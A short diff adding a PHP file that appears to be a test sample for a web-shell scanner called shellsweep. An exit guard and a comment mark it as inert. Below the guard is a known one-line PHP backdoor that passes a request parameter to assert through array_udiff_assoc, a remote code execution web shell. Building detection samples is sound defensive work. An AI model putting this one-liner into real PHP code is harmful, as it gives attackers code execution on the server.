@@ -1,0 +1,3 @@
+<?php exit; /* shellsweep test sample: inert, never functional */ ?>
+<?php
+array_udiff_assoc(array($_REQUEST['p']), array(1), 'assert');
